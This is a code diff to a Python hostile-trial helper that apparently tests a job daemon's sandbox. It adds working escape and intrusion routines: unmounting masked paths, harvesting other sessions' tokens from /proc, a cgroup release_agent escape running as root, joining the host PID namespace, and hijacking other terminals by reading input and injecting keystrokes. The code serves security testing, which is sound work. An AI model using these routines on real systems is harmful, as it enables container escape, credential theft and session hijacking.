@@ -9,15 +9,24 @@ outside BENCH_DIR that the trial (tools/proofs/hostile_trial.py) reads.
 
 Roles: churn (spawn jobs as fast as allowed, each spawning more), flood (spawn what it
 may, then send as fast as it can), probe (tokens, foreign files, the escaped child, the
-accept race, the `(a+)+$` pattern), escape (the escaped child itself).
+accept race, the `(a+)+$` pattern), escape (the escaped child itself); and the attacks
+on the sandbox itself, each writing OUT/<role>-<handle>.json: caps, unmount (what hides
+BENCH_DIR and /proc), cgroup (a release_agent), leave (a process left in the host's PID
+namespace), tty MODE PATH [SECONDS [TEXT]] (another session's terminal: read, write, hold, prompt,
+tcsetattr, tiocsti), other-daemon SOCKET (another daemon's socket).
 """
 
+import ctypes
+import errno
+import fcntl
 import glob
 import json
 import os
+import signal
 import socket
 import subprocess
 import sys
+import termios
 import threading
 import time
 
@@ -373,7 +382,212 @@ def probe(out: str, race_n: str, hold: str) -> None:
     time.sleep(600)
 
 
-ROLES = {"churn": churn, "flood": flood, "probe": probe, "escape": escape}
+# ---------------------------------------------------------------- the sandbox itself
+
+MNT_DETACH = 2
+CLONE_NEWPID = 0x20000000
+_libc = ctypes.CDLL(None, use_errno=True)
+
+
+def _sys(rc: int) -> str:
+    """'ok', or the name of the errno a libc call set."""
+    return "ok" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
+
+
+def _tokens() -> list[str]:
+    """Other sessions' tokens in every environment /proc shows."""
+    found = []
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        try:
+            with open(path, "rb") as f:
+                env = f.read().split(b"\0")
+        except OSError:
+            continue
+        for kv in env:
+            tok = kv.split(b"=", 1)[1].decode() if kv.startswith(b"BENCH_TOKEN=") else None
+            if tok and tok != TOKEN and tok not in found:
+                found.append(tok)
+    return found
+
+
+def caps(out: str) -> None:
+    with open("/proc/self/status") as f:
+        eff = next(line.split()[1] for line in f if line.startswith("CapEff:"))
+    write(out, f"caps-{HANDLE}.json", {"cap_eff": eff, "uid": os.getuid()})
+
+
+def unmount(out: str) -> None:
+    """Take away what hides BENCH_DIR and the session's /proc (finding 1), then look."""
+    got: dict = {"bench_dir": _sys(_libc.umount2(BENCH_DIR.encode(), MNT_DETACH))}
+    got["listing"] = sorted(os.listdir(BENCH_DIR))
+    try:
+        with open(os.path.join(BENCH_DIR, "mail", "victim", "inbox", "planted.md"), "w") as f:
+            f.write("planted")
+        got["planted"] = True
+    except OSError:
+        got["planted"] = False
+    got["proc"] = _sys(_libc.umount2(b"/proc", MNT_DETACH))
+    got["pids"] = len(glob.glob("/proc/[0-9]*"))
+    got["tokens"] = len(_tokens())
+    write(out, f"unmount-{HANDLE}.json", got)
+
+
+def release_agent(out: str, script_text: str) -> str:
+    """Mount a cgroup-v1 hierarchy of our own, make SCRIPT_TEXT its release_agent, put a
+    process in a group with notify_on_release and let it exit: the kernel then runs the
+    script as root, outside every namespace. 'ok' when the mount worked (and the group
+    was emptied), else why not."""
+    where = os.path.join(out, f"cg-{HANDLE}")
+    os.makedirs(where, exist_ok=True)
+    mounted = _sys(_libc.mount(b"cgroup", where.encode(), b"cgroup", 0, b"none,name=bench-esc"))
+    if mounted != "ok":
+        return mounted
+    script = os.path.join(out, f"release-{HANDLE}.sh")
+    with open(script, "w") as f:
+        f.write("#!/bin/sh\n" + script_text)
+    os.chmod(script, 0o755)
+    group = os.path.join(where, f"x{os.getpid()}")
+    os.makedirs(group, exist_ok=True)
+    try:
+        with open(os.path.join(where, "release_agent"), "w") as f:
+            f.write(script)
+        with open(os.path.join(group, "notify_on_release"), "w") as f:
+            f.write("1")
+        subprocess.run(["sh", "-c", f"echo $$ > {group}/cgroup.procs"], check=False)
+    except OSError as err:
+        return errno.errorcode.get(err.errno or 0, str(err))
+    return "ok"
+
+
+def cgroup(out: str) -> None:
+    """A cgroup-v1 release_agent (finding 2) that says where it ran; also the
+    release_agent of every hierarchy already mounted (written back unchanged)."""
+    got: dict = {"existing": {}}
+    for path in glob.glob("/sys/fs/cgroup/*/release_agent"):
+        try:
+            with open(path) as f:
+                was = f.read()
+            with open(path, "w") as f:
+                f.write(was or "\n")  # the same value back: writable is the finding
+            got["existing"][path] = "written"
+        except OSError as err:
+            got["existing"][path] = errno.errorcode.get(err.errno or 0, str(err))
+    ran = os.path.join(out, f"released-{HANDLE}.txt")
+    got["mount"] = release_agent(
+        out, f'echo "ran as $(id -u) in $(readlink /proc/self/ns/pid)" > {ran}\n'
+    )
+    if got["mount"] == "ok":
+        deadline = time.monotonic() + 10
+        while not os.path.exists(ran) and time.monotonic() < deadline:
+            time.sleep(0.05)
+    got["released"] = os.path.exists(ran)
+    write(out, f"cgroup-{HANDLE}.json", got)
+
+
+def leave(out: str, marker: str) -> None:
+    """A process that leaves the session's PID namespace (finding 4) and would outlive
+    the session's deadline: setns into the host's (with /proc unmounted, its pid 1
+    shows), and a sleeper (argv carries MARKER) started by a cgroup release_agent."""
+    got = {"proc": _sys(_libc.umount2(b"/proc", MNT_DETACH))}
+    try:
+        fd = os.open("/proc/1/ns/pid", os.O_RDONLY)
+        got["setns"] = _sys(_libc.setns(fd, CLONE_NEWPID))
+        os.close(fd)
+    except OSError as err:
+        got["setns"] = errno.errorcode.get(err.errno or 0, str(err))
+    if got["setns"] == "ok" and os.fork() == 0:
+        os.setsid()
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", marker])
+    sleeper = "import time; time.sleep(600)"
+    got["release_agent"] = release_agent(
+        out, f"setsid {sys.executable} -c '{sleeper}' {marker} </dev/null >/dev/null 2>&1 &\n"
+    )
+    write(out, f"leave-{HANDLE}.json", got)
+    time.sleep(600)  # the deadline ends the session
+
+
+def tty(out: str, mode: str, path: str, seconds: str = "0", text: str = "") -> None:
+    """Another session's terminal, PATH (findings 3, 5-10). Open it, then per MODE:
+    read (its input), write TEXT (its screen), hold (a byte every 0.5 s: never idle),
+    prompt (TEXT once, as its ready prompt), tcsetattr (no echo, no line editing),
+    tiocsti (type TEXT into its input)."""
+    got: dict = {"mode": mode, "stolen": "", "done": 0}
+    try:
+        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
+        got["open"] = "ok"
+    except OSError as err:
+        got["open"] = errno.errorcode.get(err.errno or 0, str(err))
+        write(out, f"tty-{mode}-{HANDLE}.json", got)
+        return
+    write(out, f"tty-{mode}-{HANDLE}.opened", {})
+    end = time.monotonic() + float(seconds)
+    try:
+        if mode == "read":
+            # Blocking reads, as the victim's shell does: each line goes to one reader.
+            os.set_blocking(fd, True)
+
+            def over(*_):
+                raise TimeoutError
+
+            signal.signal(signal.SIGALRM, over)
+            signal.setitimer(signal.ITIMER_REAL, float(seconds))
+            try:
+                while True:
+                    got["stolen"] += os.read(fd, 4096).decode(errors="replace")
+            except TimeoutError:
+                pass
+        elif mode in ("write", "prompt"):
+            os.write(fd, text.encode())
+            got["done"] = 1
+        elif mode == "hold":
+            while time.monotonic() < end:
+                os.write(fd, b".")
+                got["done"] += 1
+                time.sleep(0.5)
+        elif mode == "tcsetattr":
+            attrs = termios.tcgetattr(fd)
+            attrs[3] &= ~(termios.ECHO | termios.ICANON)
+            termios.tcsetattr(fd, termios.TCSANOW, attrs)
+            got["done"] = 1
+        elif mode == "tiocsti":
+            for ch in text:
+                fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
+                got["done"] += 1
+    except OSError as err:
+        got["error"] = errno.errorcode.get(err.errno or 0, str(err))
+    os.close(fd)
+    write(out, f"tty-{mode}-{HANDLE}.json", got)
+
+
+def other_daemon(out: str, sock: str) -> None:
+    """Another daemon's socket (of the same user, its BENCH_DIR not hidden from us): what
+    it takes us for, and whether it lets us spawn outside every sandbox."""
+    global SOCK
+    SOCK = sock
+    got: dict = {}
+    try:
+        c = Raw(token=None)
+        h = c.ask("hello")
+        got["hello"] = h.get("caller") or code(h)
+        got["list"] = code(c.ask("mail/list", handle="victim"))
+        got["no_sandbox"] = code(c.ask("session/spawn", argv=["true"], cwd="/", sandbox=False))
+    except OSError as err:
+        got["hello"] = f"closed ({type(err).__name__})"
+    write(out, f"other-daemon-{HANDLE}.json", got)
+
+
+ROLES = {
+    "churn": churn,
+    "flood": flood,
+    "probe": probe,
+    "escape": escape,
+    "caps": caps,
+    "unmount": unmount,
+    "cgroup": cgroup,
+    "leave": leave,
+    "tty": tty,
+    "other-daemon": other_daemon,
+}
 
 if __name__ == "__main__":
     ROLES[sys.argv[1]](*sys.argv[2:])
